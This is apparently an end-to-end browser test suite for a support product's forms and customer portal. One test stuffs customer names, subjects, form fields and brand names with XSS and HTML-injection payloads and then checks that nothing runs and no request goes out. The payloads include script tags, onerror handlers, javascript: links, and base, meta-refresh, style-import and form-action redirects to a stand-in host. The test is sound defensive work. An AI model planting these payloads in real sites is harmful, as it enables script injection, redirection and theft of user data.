import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openBox, sendBy } from '#contact/channels-email/test/post.ts';
import { type Relay, startRelay } from '#contact/channels-email/test/relay.ts';
import { createForm, FormDefinition, getForm, publishForm, saveForm } from '#contact/channels-form/contract.ts';
import { listConversations, reply, startConversation } from '#contact/conversations/contract.ts';
import { createCustomer } from '#contact/customers/contract.ts';
import { addBrand } from '#contact/portal/contract.ts';
import { publishNotice } from '#contact/privacy/contract.ts';
import { openBrowser, openPage, picture, type WatchedPage } from '../lib/browser.ts';
import { type Journey, signInAt, startJourney } from '../lib/journey.ts';
import { axeFindings } from '../lib/screens.ts';

let journey: Journey;
let browser: Browser;
let relay: Relay;
let desk: WatchedPage;
/** A customer's browser with scripts switched off. */
let customer: WatchedPage;

beforeAll(async () => {
  journey = await startJourney({ environment: { HEED_EGRESS_ALLOW: '127.0.0.1' } });
  relay = await startRelay();
  const box = await openBox(journey.owner, 'support@fennick.example');
  await sendBy(journey.owner, box, 2, relay.port);
  const text = 'We keep what you write for two years, to answer it and to repair what we sold.';
  await journey.owner.call(publishNotice, { purpose: 'Repairs', channel: 'form', text });
  browser = await openBrowser();
  desk = await openPage(browser, { viewport: { width: 1440, height: 900 } });
  customer = await openPage(browser, { viewport: { width: 1440, height: 900 }, javaScriptEnabled: false });
  await signInAt(desk, journey.heed.url, 'olive@heed.example');
});
afterAll(async () => {
  await browser?.close();
  await relay?.stop();
  await journey?.stop();
});

const at = (path: string) => journey.heed.url + path;

/** Light, dark and on a phone. */
async function pictures(page: Page, name: string): Promise<void> {
  await picture(page, name);
  await page.emulateMedia({ colorScheme: 'dark' });
  await picture(page, `${name}-dark`);
  await page.setViewportSize({ width: 390, height: 844 });
  await page.emulateMedia({ colorScheme: 'light' });
  await picture(page, `${name}-phone`);
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(width).toBeLessThanOrEqual(390);
  await page.setViewportSize({ width: 1440, height: 900 });
}

describe('a form', () => {
  it('is built on the desk, previewed and published', async () => {
    await desk.goto(at('/desk/settings/forms'));
    await desk.getByText('No form yet').waitFor();
    await desk.getByRole('button', { name: 'New form' }).click();
    const dialog = desk.getByRole('dialog', { name: 'New form' });
    await dialog.getByLabel(/^Title/).fill('Report a fault');
    await dialog.getByRole('button', { name: 'Begin' }).click();
    await desk.getByLabel('Add a field').selectOption('choice');
    const what = desk.getByRole('group', { name: 'Field 4' });
    await what.getByLabel(/^Words/).fill('What is it?');
    await what.getByLabel('What can be chosen').fill('Kettle\nSomething else');
    await desk.getByLabel('Add a field').selectOption('text');
    const serial = desk.getByRole('group', { name: 'Field 5' });
    await serial.getByLabel(/^Words/).fill('Serial number');
    await serial.getByLabel('Asked').selectOption({ label: 'What is it?: Kettle' });
    await serial.getByLabel('Must be answered').check();
    await desk.getByLabel('Collection notice').selectOption('Repairs');
    await desk.getByRole('button', { name: 'Save the draft' }).click();
    const preview = desk.frameLocator('iframe[title="The form as its page shows it"]');
    await preview.getByText('What is it?').waitFor();
    await pictures(desk, 'form-builder');
    await desk.getByRole('button', { name: 'Publish', exact: true }).click();
    await desk.getByText('published', { exact: true }).waitFor();
    expect(desk.complaints).toEqual([]);
  });

  it('is filled in without script, asks what is needed only, and keeps what was typed', async () => {
    await customer.goto(at('/forms/report-a-fault'));
    const serial = customer.getByLabel(/Serial number/);
    expect(await serial.isVisible()).toBe(false);
    await customer.getByLabel('Kettle').check();
    expect(await serial.isVisible()).toBe(true);
    await pictures(customer, 'form-page');
    await customer.getByLabel('Name').fill('Ines Kaldor');
    await customer.getByLabel('E-mail').fill('ines@kaldor.example');
    await customer.getByLabel('How can we help?').fill('The kettle leaks.');
    await customer.getByRole('button', { name: 'Send' }).click();
    await customer.getByText('One answer needs a look').waitFor();
    expect(await customer.getByLabel('How can we help?').inputValue()).toBe('The kettle leaks.');
    await picture(customer, 'form-refused');
    await customer.getByLabel(/Serial number/).fill('K-77');
    await customer.getByRole('button', { name: 'Send' }).click();
    await customer.getByText('Thank you. We answer as soon as we can.').waitFor();
    const { conversations } = await journey.owner.call(listConversations, { view: 'all' });
    expect(conversations).toMatchObject([{ channel: 'form', subject: 'Report a fault', customerName: 'Ines Kaldor' }]);
    await desk.goto(at(`/desk/inbox/all/${conversations[0]?.id}`));
    await desk.getByRole('log', { name: 'Messages' }).getByText('Serial number: K-77').waitFor();
    await picture(desk, 'form-conversation');
    expect([...customer.complaints, ...desk.complaints]).toEqual([]);
  });
});

describe('the portal', () => {
  it('lets the same customer in by a mailed link, without script, and shows the same thread', async () => {
    await journey.owner.call(addBrand, { key: 'fennick', name: 'Fennick & Rowe' });
    const { conversations } = await journey.owner.call(listConversations, { view: 'all' });
    const conversationId = conversations[0]?.id ?? '';
    await journey.owner.call(reply, { conversationId, text: 'Please send us a picture of the **lid**.' });
    await customer.goto(at('/portal/fennick'));
    await pictures(customer, 'portal-door');
    await customer.getByLabel('Your e-mail address').first().fill('ines@kaldor.example');
    await customer.getByRole('button', { name: 'Mail me a link' }).click();
    await customer.getByText('Look into your mail').waitFor();
    const link = () =>
      relay.taken.flatMap((mail) => /https?:\/\/\S+\/enter\/\S+/.exec(mail.seen.text)?.[0] ?? []).at(-1);
    await expect.poll(link).toBeTruthy();
    await customer.goto(link() ?? '');
    await customer.getByRole('button', { name: 'Go in' }).click();
    await customer.getByRole('heading', { name: 'Hello Ines, what do you need?' }).waitFor();
    await customer.getByText('New answer').waitFor();
    await pictures(customer, 'portal-home');
    await customer.getByText('Report a fault').click();
    await customer.getByText('Please send us a picture of the lid.').waitFor();
    await customer.getByLabel('Your message').fill('Here it is.');
    const note = { name: 'lid.txt', mimeType: 'text/plain', buffer: Buffer.from('The lid is cracked.') };
    await customer.getByLabel('Files').setInputFiles(note);
    await customer.getByRole('button', { name: 'Send' }).click();
    await customer.getByText('Your message has arrived.').waitFor();
    await customer.getByText('lid.txt').waitFor();
    await pictures(customer, 'portal-conversation');
    await desk.getByRole('log', { name: 'Messages' }).getByText('Here it is.').waitFor();
    await customer.goto(at('/portal/fennick/account'));
    await picture(customer, 'portal-account');
    await customer.getByRole('button', { name: 'Sign out', exact: true }).click();
    await customer.getByRole('button', { name: 'Mail me a link' }).waitFor();
    expect([...customer.complaints, ...desk.complaints]).toEqual([]);
  });

  it('T-41, T-42: runs and loads nothing of what others wrote, in forms as in the portal', async () => {
    const { owner } = journey;
    const evil = '<img src=x onerror=pwned=1><script>pwned=1</script><base href=//canary.example>';
    const styled = `${evil}<style>@import '//canary.example/c';body{display:none}</style><meta http-equiv=refresh
      content="0;url=//canary.example"><form action=//canary.example style=position:fixed;inset:0><input name=a></form>
      javascript:pwned=1 [x](javascript:pwned=1) https://a.example/"onmouseover="pwned=1`;
    const address = 'evil@kaldor.example';
    const addresses = [{ kind: 'email' as const, value: address }];
    const { customerId } = await owner.call(createCustomer, { name: evil, addresses });
    await owner.call(startConversation, { customerId, subject: evil, text: styled });
    await owner.call(addBrand, { key: 'evil', name: evil });
    const made = await owner.call(createForm, { title: evil, key: 'evil' });
    const { definition } = await owner.call(getForm, { formId: made.formId });
    const fields = definition.fields.map((field) => ({ ...field, label: evil, help: evil }));
    const choice = { id: 'c', kind: 'choice', label: evil, options: [evil] };
    const worse = { ...definition, intro: styled, thanks: styled, fields: [...fields, choice] };
    const saved = await owner.call(saveForm, {
      ...{ formId: made.formId, version: made.version, teamId: null, allowedOrigins: [] },
      definition: FormDefinition.parse(worse),
    });
    await owner.call(publishForm, { formId: made.formId, version: saved.version });
    const page = await openPage(browser);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const isSafe = async (what: string) => {
      const state = await page.evaluate(() => ({
        ran: 'pwned' in window,
        hidden: getComputedStyle(document.body).display === 'none',
        forms: [...document.forms].every((form) => new URL(form.action).origin === location.origin),
        base: document.querySelectorAll('base, main script, main style, main meta').length,
      }));
      expect(state, what).toEqual({ ran: false, hidden: false, forms: true, base: 0 });
      expect(asked.filter((url) => !url.startsWith(journey.heed.url))).toEqual([]);
    };
    await page.goto(at('/forms/evil'));
    await isSafe('a form');
    for (const input of await page.locator('input[type=text], textarea').all()) await input.fill(styled.slice(0, 190));
    await page.locator('input[type=email]').fill(address);
    await page.locator('input[type=radio]').check();
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText('Your reference').waitFor();
    await isSafe('its thanks');
    const before = relay.taken.length;
    await page.goto(at('/portal/evil'));
    await page.getByLabel('Your e-mail address').first().fill(address);
    await page.getByRole('button', { name: 'Mail me a link' }).click();
    const [mail] = (await relay.until(before + 1)).slice(before);
    await page.goto(/https?:\/\/\S+\/enter\/\S+/.exec(mail?.seen.text ?? '')?.[0] ?? '');
    await page.getByRole('button', { name: 'Go in' }).click();
    await page.locator('.rows li').nth(1).waitFor();
    await isSafe('the list');
    for (const at of [0, 1]) {
      await page.locator('.rows li').nth(at).click();
      await page.locator('.msg').first().waitFor();
      await isSafe('a conversation');
      await page.goBack();
    }
    expect(page.complaints).toEqual([]);
  });

  it('is kept on the desk with its brands, as notices and consents are', async () => {
    await desk.goto(at('/desk/settings/portal'));
    await desk.getByText('Fennick & Rowe').first().waitFor();
    await pictures(desk, 'portal-settings');
    await desk.goto(at('/desk/settings/privacy'));
    await desk.getByText('in force').waitFor();
    await pictures(desk, 'privacy-settings');
    await desk.goto(at('/desk/settings/forms'));
    await desk.getByText('filled in once').first().waitFor();
    await pictures(desk, 'forms-list');
    expect(desk.complaints).toEqual([]);
    for (const path of ['/forms/report-a-fault', '/portal/fennick']) {
      await desk.goto(at(path));
      expect(await axeFindings(desk, 'all'), path).toEqual([]);
    }
    expect(desk.complaints).toEqual([]);
  });
});
